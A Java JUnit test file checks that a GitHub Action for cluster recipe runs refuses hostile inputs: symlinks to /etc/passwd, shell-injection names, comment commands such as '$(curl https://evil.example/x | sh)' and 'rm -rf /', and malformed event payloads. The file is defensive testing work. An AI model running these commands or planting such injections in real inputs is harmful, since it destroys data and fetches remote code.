package net.qgreenland.ogdc.cluster;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.function.Function;
import java.util.stream.Stream;
import net.qgreenland.ogdc.cluster.ActionHarness.Change;
import net.qgreenland.ogdc.cluster.ActionHarness.Result;
import net.qgreenland.ogdc.recipe.HostileRecipeInputTest;
import net.qgreenland.ogdc.testing.CommitWriter;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The hostile corpus of the reliability suite, each case run through {@code run} as the action
 * ({@link ActionHarness}): hostile recipes committed to the repository (the parser's hostile inputs, and files too
 * big, linking out or of the wrong kind), comment commands with injection attempts, and hostile event payloads.
 * Every case must end with a clear error naming the reason (and the file and line, for a recipe) where people look,
 * and nothing submitted to the cluster.
 */
class HostileInputEndToEndTest {

    static final String DIR = "recipes/evil";
    static final String SCRIPT = "echo hi > /output_dir/x\n";
    static final String VALID_META = ActionHarness.read(Path.of(
            "example-recipe-repo/recipes/arcticdem-greenland-contours/meta.yml"));
    static final Duration PATIENCE = Duration.ofSeconds(60);

    @TempDir
    Path temp;

    ActionHarness action;

    @BeforeEach
    void start() {
        action = ActionHarness.start(temp);
    }

    @AfterEach
    void stop() {
        action.close();
    }

    // ---- hostile recipes

    static Stream<Arguments> hostileRecipes() {
        Stream<Arguments> parserCases = HostileRecipeInputTest.hostileFiles().map(Arguments::get).map(a ->
                Arguments.of(a[0], (Consumer<CommitWriter>) repo -> repo.write(DIR + "/meta.yml", (byte[]) a[1])
                        .write(DIR + "/recipe.sh", SCRIPT), a[2], a[3], a[4]));
        return Stream.concat(parserCases, Stream.of(
                recipe("a recipe.sh over 1 MiB is refused naming the limit", repo -> repo
                        .write(DIR + "/meta.yml", VALID_META)
                        .write(DIR + "/recipe.sh", "#".repeat(1024 * 1024) + "\n" + SCRIPT),
                        "recipe.sh", 0, "the limit for recipe.sh is 1 MiB (1048576 bytes)"),
                recipe("a recipe.sh linking to /etc/passwd is refused", repo -> repo
                        .write(DIR + "/meta.yml", VALID_META).symlink(DIR + "/recipe.sh", "/etc/passwd"),
                        "recipe.sh", 0, "outside the recipe directory"),
                recipe("a meta.yml linking out of the repository is refused", repo -> repo
                        .symlink(DIR + "/meta.yml", "../../../../etc/shadow").write(DIR + "/recipe.sh", SCRIPT),
                        "meta.yml", 0, "outside the recipe directory"),
                recipe("a recipe.sh that is a directory is refused", repo -> repo
                        .write(DIR + "/meta.yml", VALID_META).write(DIR + "/recipe.sh/x", SCRIPT),
                        "recipe.sh", 0, "not a regular file"),
                recipe("a name with shell metacharacters is refused", repo -> repo
                        .write(DIR + "/meta.yml", VALID_META.replaceFirst("(?m)^name: .*$",
                                "name: \\\"\\$(rm -rf /); `id`\\\""))
                        .write(DIR + "/recipe.sh", SCRIPT), "meta.yml", 8,
                        "must contain only letters, digits, spaces, '.' and '-'")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileRecipes")
    void aHostileRecipeIsRefusedWithItsFileAndLineAndNothingIsSubmitted(String description,
            Consumer<CommitWriter> write, String file, int line, String message) {
        String before = action.repository.write("README.md", "recipes\n").commit("start");
        write.accept(action.repository);
        String after = action.repository.commit("a hostile recipe");
        ObjectNode push = ActionHarness.webhook("push.branch-updated.probot.json").put("before", before)
                .put("after", after).put("ref", "refs/heads/main");

        Result run = assertTimeoutPreemptively(PATIENCE, () -> action.runAction("push", push),
                "a hostile recipe must not hang the run");

        assertThat(run.code()).as(run.err()).isEqualTo(1);
        assertThat(action.cluster.workflows()).as("submitted").isEmpty();
        assertThat(action.recipeStates()).containsExactlyEntriesOf(Map.of(DIR, "invalid"));
        action.assertCheckRunsEnded(Map.of(DIR, "failure"));
        String location = DIR + "/" + file + (line > 0 ? ":" + line + ":" : "");
        assertThat(unescaped(action.summary())).as("the job summary").contains(location, message);
        assertThat(run.out()).contains("::error file=" + DIR + "/" + file);
        assertThat(run.printedUnmasked()).doesNotContain(ActionHarness.TOKEN);
    }

    /** {@code markdown} without the backslashes that escape Markdown's punctuation. */
    static String unescaped(String markdown) {
        return markdown.replaceAll("\\\\([\\\\`*_{}\\[\\]()#+\\-.!|<>~])", "$1");
    }

    private static Arguments recipe(String description, Consumer<CommitWriter> write, String file, int line,
            String message) {
        return Arguments.of(description, write, file, line, message);
    }

    // ---- comment commands with injection attempts

    static Stream<Arguments> hostileComments() {
        String noRecipe = "no recipe named '%s' at ";
        return Stream.of(
                comment("/ogdc run ../../x", noRecipe.formatted("../../x")),
                comment("/ogdc run recipes/../../../etc/passwd", noRecipe.formatted("recipes/../../../etc/passwd")),
                comment("/ogdc run /etc/passwd", noRecipe.formatted("/etc/passwd")),
                comment("/ogdc run alpha; rm -rf /", noRecipe.formatted("alpha;")),
                comment("/ogdc run $(curl https://evil.example/x | sh)", noRecipe.formatted("$(curl")),
                comment("/ogdc run `id`", noRecipe.formatted("`id`")),
                comment("/ogdc run alpha && echo pwned", noRecipe.formatted("&&")),
                comment("/ogdc run alpha|cat /etc/passwd", noRecipe.formatted("alpha|cat")),
                comment("/ogdc run ${GITHUB_TOKEN}", noRecipe.formatted("${GITHUB_TOKEN}")),
                comment("/ogdc run *", noRecipe.formatted("*")),
                comment("/ogdc run <script>alert(1)</script>", noRecipe.formatted("<script>alert(1)</script>")),
                comment("/ogdc run alpha\u202Etxt.sh", noRecipe.formatted("alpha\u202Etxt.sh")),
                comment("/ogdc run ::set-env name=LD_PRELOAD::/tmp/x.so", noRecipe.formatted(
                        "::set-env")),
                comment("/ogdc approve ../x", noRecipe.formatted("../x")),
                comment("/ogdc run ..", noRecipe.formatted("..")),
                comment("/ogdc run " + "a".repeat(70_000), "no recipe named 'aaaa"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileComments")
    void aCommentCommandWithAnInjectionAttemptIsRefusedAndNothingIsSubmitted(String body, String reason) {
        Change change = action.commitTwoChangedRecipesAndAnInvalidOne();
        stubPullRequestTwo(change);
        ObjectNode payload = ActionHarness.webhook("issue_comment.created-on-pr.atlantis.json");
        ((ObjectNode) payload.path("issue")).put("number", 2);
        ObjectNode comment = ((ObjectNode) payload.path("comment")).put("body", body)
                .put("id", CommentCommandEndToEndTest.USER_COMMENT).put("author_association", "OWNER");
        ((ObjectNode) comment.path("user")).put("login", "maintainer");

        Result run = assertTimeoutPreemptively(PATIENCE, () -> action.runAction("issue_comment", payload));

        assertThat(run.code()).as(run.err()).isNotZero();
        assertThat(action.cluster.workflows()).as("submitted").isEmpty();
        assertThat(action.createdBodies()).as("check runs created").isEmpty();
        assertThat(action.summary()).as("the job summary").contains("ogdc-action run stopped", reason);
        assertThat(run.out()).contains("::error title=ogdc-action run::");
        assertThat((run.out() + "\n" + run.err()).lines()).as("lines a runner would take for commands")
                .noneMatch(l -> l.startsWith("::set-env") || l.startsWith("::stop-commands"));
        assertThat(run.printedUnmasked()).doesNotContain(ActionHarness.TOKEN);
    }

    private static Arguments comment(String body, String reason) {
        return Arguments.of(body, reason);
    }

    private void stubPullRequestTwo(Change change) {
        action.github.stubFor(get(urlPathEqualTo("/repos/o/r/collaborators/maintainer/permission"))
                .willReturn(okJson("{\"permission\":\"write\",\"role_name\":\"maintain\","
                        + "\"user\":{\"login\":\"maintainer\"}}")));
        action.github.stubFor(get(urlPathEqualTo("/repos/o/r/pulls/2")).willReturn(okJson("""
                {"number":2,"state":"open","draft":false,
                 "base":{"sha":"%s","ref":"main","repo":{"full_name":"o/r"}},
                 "head":{"sha":"%s","ref":"changes","repo":{"full_name":"o/r"}}}"""
                .formatted(change.before(), change.after()))));
        action.github.stubFor(post(urlPathEqualTo(CommentCommandEndToEndTest.REACTIONS)).willReturn(aResponse()
                .withStatus(201).withHeader("Content-Type", "application/json")
                .withBody("{\"id\":1,\"content\":\"eyes\"}")));
    }

    // ---- hostile event payloads

    static Stream<Arguments> hostilePayloads() {
        return Stream.of(
                payload("a push whose after is a shell command", "push",
                        c -> push(c).put("after", "$(rm -rf /)"), "$(rm -rf /)"),
                payload("a push whose before walks out of the repository", "push",
                        c -> push(c).put("before", "../../../etc/passwd"), "../../../etc/passwd"),
                payload("a push whose after is a number", "push",
                        c -> push(c).put("after", 42), "no commit '42'"),
                payload("a push without commits named", "push",
                        c -> (ObjectNode) push(c).without(List.of("before", "after")), "no commit ''"),
                payload("a pull request whose head sha is an injection", "pull_request",
                        c -> { ObjectNode p = pullRequest(c);
                            ((ObjectNode) p.path("pull_request").path("head")).put("sha", "`id`");
                            return p; }, "`id`"),
                payload("a dispatch whose recipes input walks out of the repository", "workflow_dispatch",
                        c -> dispatch("../../etc"), "../../etc"),
                payload("a dispatch whose recipes input is a shell command", "workflow_dispatch",
                        c -> dispatch("$(id)"), "$(id)"),
                payload("an oversize payload of 30 MB", "push",
                        c -> { ObjectNode p = push(c);
                            p.set("padding", new TextNode("x".repeat(30 * 1024 * 1024)));
                            return p; }, "exceeds the maximum allowed (20000000"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostilePayloads")
    void aHostileEventPayloadIsRefusedAndNothingIsSubmitted(String description, String event,
            Function<Change, ObjectNode> payload, String reason) {
        Change change = action.commitTwoChangedRecipesAndAnInvalidOne();
        // a commit missing from the clone is asked of GitHub's API, which does not know this repository
        action.github.stubFor(get(urlPathEqualTo("/repos/o/r")).willReturn(aResponse().withStatus(404)
                .withHeader("Content-Type", "application/json").withBody("{\"message\":\"Not Found\"}")));

        Result run = assertTimeoutPreemptively(PATIENCE, () -> action.runAction(event, payload.apply(change)));

        assertThat(run.code()).as(run.err()).isNotZero();
        assertThat(action.cluster.workflows()).as("submitted").isEmpty();
        assertThat(action.summary()).as("the job summary").contains("ogdc-action run stopped", reason);
        assertThat(run.printedUnmasked()).doesNotContain(ActionHarness.TOKEN);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("unreadablePayloads")
    void anEventFileThatIsNotAPayloadIsRefused(String description, byte[] content, String reason) {
        action.commitTwoChangedRecipesAndAnInvalidOne();
        Map<String, String> env = action.environment("push", new TextNode(""), Map.of());
        try {
            Files.write(Path.of(env.get("GITHUB_EVENT_PATH")), content);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        Result run = assertTimeoutPreemptively(PATIENCE, () -> action.runPrepared(env));

        assertThat(run.code()).as(run.err()).isNotZero();
        assertThat(action.cluster.workflows()).as("submitted").isEmpty();
        assertThat(action.summary()).as("the job summary").contains("ogdc-action run stopped", reason);
    }

    static Stream<Arguments> unreadablePayloads() {
        return Stream.of(
                Arguments.of("an event file that is not JSON", "{\"after\": ".getBytes(StandardCharsets.UTF_8),
                        "event payload"),
                Arguments.of("an event file that is a JSON array", "[1, 2]".getBytes(StandardCharsets.UTF_8),
                        "event payload"),
                Arguments.of("an empty event file", new byte[0], "event payload"),
                Arguments.of("an event file of invalid UTF-8", new byte[] {'{', (byte) 0xC3, '}'}, "event payload"),
                Arguments.of("an event file nested 100000 deep", "[".repeat(100_000)
                        .getBytes(StandardCharsets.UTF_8), "event payload"));
    }

    private static ObjectNode push(Change change) {
        return ActionHarness.webhook("push.branch-updated.probot.json").put("before", change.before())
                .put("after", change.after()).put("ref", "refs/heads/main");
    }

    private static ObjectNode pullRequest(Change change) {
        ObjectNode payload = ActionHarness.webhook("pull_request.opened.json");
        ObjectNode pull = (ObjectNode) payload.path("pull_request");
        ((ObjectNode) pull.path("base")).put("sha", change.before()).put("ref", "main");
        ObjectNode head = ((ObjectNode) pull.path("head")).put("sha", change.after()).put("ref", "changes");
        ((ObjectNode) head.path("repo")).put("full_name", "o/r");
        return payload;
    }

    private static ObjectNode dispatch(String recipes) {
        ObjectNode payload = ActionHarness.webhook("workflow_dispatch.main.json");
        ((ObjectNode) payload.withObjectProperty("inputs")).put("recipes", recipes);
        return payload;
    }

    private static Arguments payload(String description, String event, Function<Change, ObjectNode> payload,
            String reason) {
        return Arguments.of(description, event, payload, reason);
    }
}
